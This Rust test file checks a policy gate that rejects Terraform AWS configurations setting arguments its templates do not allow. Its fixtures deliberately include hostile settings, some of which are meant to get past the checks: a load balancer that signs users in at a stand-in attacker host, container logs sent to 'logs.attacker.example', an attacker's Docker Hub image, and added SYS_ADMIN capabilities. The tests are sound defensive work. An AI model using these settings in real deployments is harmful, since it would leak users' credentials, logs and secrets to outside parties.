//! The argument allow-list: an allowed resource type sets only what the
//! templates set for it. Each case below passed every other rule; each sets
//! one argument (or tag, or container key) no rule read.

use super::*;

#[test]
fn arguments_no_template_sets_are_refused() {
    let vm = vm_policy();
    let container_service = Policy::for_choice(&choice(Target::ContainerService));
    let own_container = "name = \"app\", image = \"${aws_ecr_repository.app.repository_url}:1\"";
    let task_definition = |keys: &str| {
        format!(
            "resource \"aws_ecs_task_definition\" \"app\" {{\n  family                = \"x\"\n  task_role_arn         = aws_iam_role.task.arn\n  container_definitions = jsonencode([{{ {own_container}{keys} }}])\n}}\n"
        )
    };
    assert_each_refused(vec![
        (
            "a listener that signs the app's users in at an outside identity provider",
            "resource \"aws_lb_listener\" \"x\" {\n  load_balancer_arn = aws_lb.app.arn\n  port              = 8080\n  protocol          = \"HTTP\"\n  default_action {\n    type = \"authenticate-oidc\"\n    authenticate_oidc {\n      issuer                 = \"https://login.attacker.example\"\n      authorization_endpoint = \"https://login.attacker.example/auth\"\n      token_endpoint         = \"https://login.attacker.example/token\"\n      user_info_endpoint     = \"https://login.attacker.example/userinfo\"\n      client_id              = \"x\"\n      client_secret          = \"y\"\n    }\n  }\n}\n".to_owned(),
            &[Rule::ArgumentNotAllowed],
            &container_service,
        ),
        (
            "a tag an account's attribute-based policies grant by",
            "resource \"aws_vpc\" \"x\" {\n  cidr_block = \"10.9.0.0/16\"\n  tags       = { Name = \"x\", team = \"platform\" }\n}\n".to_owned(),
            &[Rule::ArgumentNotAllowed],
            &vm,
        ),
        (
            "tags the gate cannot read",
            "resource \"aws_vpc\" \"x\" {\n  cidr_block = \"10.9.0.0/16\"\n  tags       = var.extra_tags\n}\n\nvariable \"extra_tags\" {\n  default = { team = \"platform\" }\n}\n".to_owned(),
            &[Rule::ArgumentNotAllowed],
            &vm,
        ),
        (
            "a container pulling with credentials from another secret",
            task_definition(", repositoryCredentials = { credentialsParameter = aws_secretsmanager_secret.x.arn }"),
            &[Rule::ArgumentNotAllowed],
            &container_service,
        ),
        (
            "a container with added kernel capabilities",
            task_definition(", linuxParameters = { capabilities = { add = [\"SYS_ADMIN\"] } }"),
            &[Rule::ArgumentNotAllowed],
            &container_service,
        ),
        (
            "a container key the gate cannot read: a local",
            format!("{}locals {{\n  caps = \"linuxParameters\"\n}}\n", task_definition(", (local.caps) = { capabilities = { add = [\"SYS_ADMIN\"] } }")),
            &[Rule::ObjectKey, Rule::ForeignResource],
            &container_service,
        ),
        (
            "a container key the gate cannot read: a function",
            task_definition(", (lower(\"LINUXPARAMETERS\")) = { capabilities = { add = [\"SYS_ADMIN\"] } }"),
            &[Rule::ObjectKey, Rule::ForeignResource],
            &container_service,
        ),
        (
            "a container logging to a host of the author's through the splunk driver",
            task_definition(", logConfiguration = { logDriver = \"splunk\", options = { splunk-url = \"https://logs.attacker.example:8088\", splunk-token = \"t\" } }"),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "an awslogs container with an option of another driver",
            task_definition(", logConfiguration = { logDriver = \"awslogs\", options = { awslogs-group = aws_cloudwatch_log_group.app.name, awslogs-endpoint = \"https://logs.attacker.example\" } }"),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "an image from Docker Hub as a key zipmap() makes in a merge()",
            "resource \"aws_ecs_task_definition\" \"app\" {\n  family                = \"x\"\n  task_role_arn         = aws_iam_role.task.arn\n  container_definitions = jsonencode([merge({ name = \"app\" }, zipmap([\"image\"], [\"docker.io/attacker/app:latest\"]))])\n}\n".to_owned(),
            &[Rule::ForeignResource],
            &container_service,
        ),
        (
            "a container handing secrets to its log driver",
            task_definition(", logConfiguration = { logDriver = \"awslogs\", secretOptions = [{ name = \"x\", valueFrom = aws_ssm_parameter.x.arn }] }"),
            &[Rule::ArgumentNotAllowed],
            &container_service,
        ),
        (
            "a dynamic block of an argument no template writes",
            "resource \"aws_ecs_service\" \"x\" {\n  name          = \"x\"\n  cluster       = aws_ecs_cluster.main.id\n  desired_count = 1\n  dynamic \"load_balancer\" {\n    for_each = [1]\n    content {\n      elb_name = \"prod\"\n    }\n  }\n}\n".to_owned(),
            &[Rule::ArgumentNotAllowed, Rule::BlockNotAllowed],
            &container_service,
        ),
    ]);
}

#[test]
fn a_refused_argument_names_what_may_be_set_there() {
    let report = assert_only(
        "resource \"aws_vpc\" \"x\" {\n  cidr_block       = \"10.9.0.0/16\"\n  assign_generated_ipv6_cidr_block = true\n}\n",
        &[Rule::ArgumentNotAllowed],
        &vm_policy(),
    );
    let message = messages(&report);
    assert!(
        message.contains("aws_vpc.x: assign_generated_ipv6_cidr_block"),
        "{message}"
    );
    assert!(
        message.contains("cidr_block, count, depends_on, enable_dns_hostnames"),
        "{message}"
    );
}

#[test]
fn meta_arguments_dynamic_blocks_and_the_templates_tags_pass() {
    let vm = vm_policy();
    assert_passes(
        "resource \"aws_vpc\" \"x\" {\n  count      = 1\n  cidr_block = \"10.9.0.0/16\"\n  tags       = merge({ Name = \"x\" }, { \"kubernetes.io/cluster/df-x\" = \"shared\" })\n  lifecycle {\n    create_before_destroy = true\n  }\n}\n\nresource \"aws_security_group\" \"x\" {\n  vpc_id = aws_vpc.x[0].id\n  dynamic \"ingress\" {\n    for_each = [8080]\n    content {\n      from_port   = 8080\n      to_port     = 8080\n      protocol    = \"tcp\"\n      cidr_blocks = [\"0.0.0.0/0\"]\n    }\n  }\n}\n",
        &vm,
    );
}

#[test]
fn default_tags_are_the_templates_only() {
    let vm = vm_policy();
    let with_default_tags = |tags: &str| {
        BASE.replace(
            "provider \"aws\" {\n  region = \"ca-central-1\"\n}",
            &format!("provider \"aws\" {{\n  region = \"ca-central-1\"\n  default_tags {{\n    tags = {tags}\n  }}\n}}"),
        )
    };
    let templates = with_default_tags("{ ManagedBy = \"deployflow\", DeployflowJob = \"job-1\" }");
    assert!(check_files(&[("main.tf", &templates)], &vm).passed);
    let every_role_of_a_team =
        with_default_tags("{ ManagedBy = \"deployflow\", team = \"platform\" }");
    let report = check_files(&[("main.tf", &every_role_of_a_team)], &vm);
    assert_eq!(
        report.rules(),
        BTreeSet::from([Rule::ArgumentNotAllowed]),
        "{:#?}",
        report.violations
    );
    assert!(messages(&report).contains("provider \"aws\" default_tags: the tag \"team\""));
}

/// A function logs into this configuration's log group: another's would
/// receive, and mix, what the app prints.
#[test]
fn a_function_logs_only_to_its_own_log_group() {
    let serverless = Policy::for_choice(&choice(Target::Serverless));
    let function = |group: &str| {
        format!(
            "resource \"aws_cloudwatch_log_group\" \"fn\" {{\n  name              = \"/aws/lambda/x\"\n  retention_in_days = 14\n}}\n\nresource \"aws_lambda_function\" \"x\" {{\n  function_name = \"x\"\n  role          = aws_iam_role.app.arn\n  package_type  = \"Image\"\n  image_uri     = \"${{aws_ecr_repository.app.repository_url}}:1\"\n  logging_config {{\n    log_format = \"Text\"\n    log_group  = {group}\n  }}\n}}\n"
        )
    };
    let own = check_with(&function("aws_cloudwatch_log_group.fn.name"), &serverless);
    let foreign = check_with(&function("\"/aws/lambda/payments-api\""), &serverless);
    let added: Vec<String> = foreign
        .violations
        .iter()
        .map(ToString::to_string)
        .filter(|v| !own.violations.iter().any(|o| &o.to_string() == v))
        .collect();
    assert_eq!(added.len(), 1, "{added:#?}");
    assert!(added[0].contains("log group"), "{added:#?}");
    assert!(
        foreign
            .violations
            .iter()
            .any(|v| v.rule == Rule::ForeignResource && v.message.contains("log group")),
        "{:#?}",
        foreign.violations
    );
}
